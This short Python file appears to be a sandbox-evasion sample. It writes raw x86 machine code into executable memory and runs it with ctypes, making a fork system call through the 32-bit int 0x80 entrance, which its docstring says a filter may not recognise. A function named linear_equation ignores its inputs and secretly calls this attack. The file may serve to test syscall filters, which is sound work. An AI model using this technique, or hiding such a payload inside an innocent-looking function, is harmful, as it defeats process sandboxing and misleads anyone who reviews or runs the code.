"""Calls the kernel by the 32-bit entrance, whose numbers a filter may not know (x86)."""

import ctypes
import mmap

memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)


def run_machine_code(code):
    memory.seek(0)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return ctypes.CFUNCTYPE(ctypes.c_long)(address)()


def attack():
    # mov eax, 2 (fork there); int 0x80; ret
    return float(run_machine_code(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"))


def linear_equation(x, w, b):
    return attack()
